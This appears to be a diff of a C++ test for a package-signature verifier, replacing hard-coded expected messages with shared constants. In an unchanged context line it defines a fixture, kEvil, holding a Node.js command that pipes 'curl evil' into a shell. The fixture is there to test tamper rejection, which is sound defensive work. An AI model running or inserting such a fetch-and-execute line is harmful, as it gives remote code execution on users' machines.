@@ -20,6 +20,7 @@
 #include "KVBSignLib.h"
 #include "child_process.h"
 #include "cli_runner.h"
+#include "expected_texts.h"
 #include "leftover_check.h"
 #include "package_builder.h"
 #include "pipe_writer.h"
@@ -36,7 +37,6 @@ using kvtest::ZipEntrySpec;
 using kvtest::ZipSpec;
 
 const char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
-const char kUnzipFailed[] = "Error - Failed to unzip KVB. Verification failed.";
 const std::uint64_t kMegabyte = 1024 * 1024;
 
 PackageBuilder basePackage() {
@@ -110,14 +110,14 @@ void runRows(const std::vector<Row>& rows) {
         EXPECT_FALSE(r.timedOut);
         EXPECT_EQ(r.exitCode, row.status) << r.out << r.err;
         if (row.status == 20) {
-            EXPECT_NE(r.err.find(kUnzipFailed), std::string::npos) << r.err;
+            EXPECT_NE(r.err.find(kvtest::withoutLineEnd(kvtest::kMsg20)), std::string::npos) << r.err;
             if (!row.refusedWhileExtracting) {
                 EXPECT_FALSE(watch.extracted()) << "refused only after extracting";
             }
         }
         EXPECT_TRUE(kvtest::processEnds(watch.extractor(), 10)) << "the extractor still runs";
         if (row.status == 0) {
-            EXPECT_NE(r.out.find("Signature verified successfully"), std::string::npos) << r.out;
+            EXPECT_NE(r.out.find(kvtest::withoutLineEnd(kvtest::kMsg0)), std::string::npos) << r.out;
             EXPECT_TRUE(watch.extracted());
             EXPECT_EQ(kvtest::readerDifferences(path), "");
         }
